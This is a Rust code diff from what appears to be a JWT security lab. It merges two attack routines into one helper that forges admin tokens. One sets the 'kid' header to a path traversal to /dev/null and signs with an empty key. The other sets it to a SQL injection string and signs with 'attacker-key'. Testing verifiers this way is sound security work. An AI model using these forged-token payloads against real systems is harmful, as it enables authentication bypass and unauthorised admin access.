@@ -703,18 +703,23 @@ async fn header_x5c(lab: &Lab) -> LabResult {
 }
 
 async fn kid_path_traversal(lab: &Lab) -> LabResult {
-    let captured = capture(lab).await?;
-    let mut header = forged_header(&captured, &[]);
-    header["kid"] = json!("../../../../../../dev/null");
-    let token = hmac_signed(&header, &captured.admin_claims(), b"");
-    presented(lab, &token, ADMIN_ONLY).await
+    // A verifier that reads the key from a file named by `kid` gets an
+    // empty one here.
+    kid_attack(lab, "../../../../../../dev/null", b"").await
 }
 
 async fn kid_injection(lab: &Lab) -> LabResult {
+    // A verifier that looks the key up in SQL by `kid` gets this string.
+    kid_attack(lab, "x' UNION SELECT 'attacker-key' --", b"attacker-key").await
+}
+
+/// Admin claims whose header names `kid`, HMAC-signed with the key a naive
+/// verifier would find under that name.
+async fn kid_attack(lab: &Lab, kid: &str, key_it_would_find: &[u8]) -> LabResult {
     let captured = capture(lab).await?;
     let mut header = forged_header(&captured, &[]);
-    header["kid"] = json!("x' UNION SELECT 'attacker-key' --");
-    let token = hmac_signed(&header, &captured.admin_claims(), b"attacker-key");
+    header["kid"] = json!(kid);
+    let token = hmac_signed(&header, &captured.admin_claims(), key_it_would_find);
     presented(lab, &token, ADMIN_ONLY).await
 }
 
